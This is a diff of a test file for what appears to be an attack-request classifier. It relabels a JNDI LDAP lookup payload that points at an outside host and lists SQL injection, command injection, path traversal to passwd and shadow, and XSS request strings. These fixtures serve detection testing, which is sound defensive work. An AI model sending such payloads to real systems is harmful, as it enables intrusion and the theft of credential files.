@@ -41,7 +41,7 @@ def signals(*lines: str) -> list[str]:
         ("/item?id=sleep(5)", "sql-injection"),
         ("/search?q=1%3BSELECT%20pg_sleep%285%29--", "sql-injection"),
         ("/ping?host=127.0.0.1;cat%20/etc/hosts", "command-injection"),
-        ("/?x=${jndi:ldap://203.0.113.7/a}", "command-injection"),
+        ("/?x=${jndi:ldap://203.0.113.7/a}", "jndi-lookup"),
         ("/static/..%2f..%2f..%2fetc%2fpasswd", "path-traversal"),
         ("/download?file=../../etc/shadow", "path-traversal"),
         ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "cross-site-scripting"),
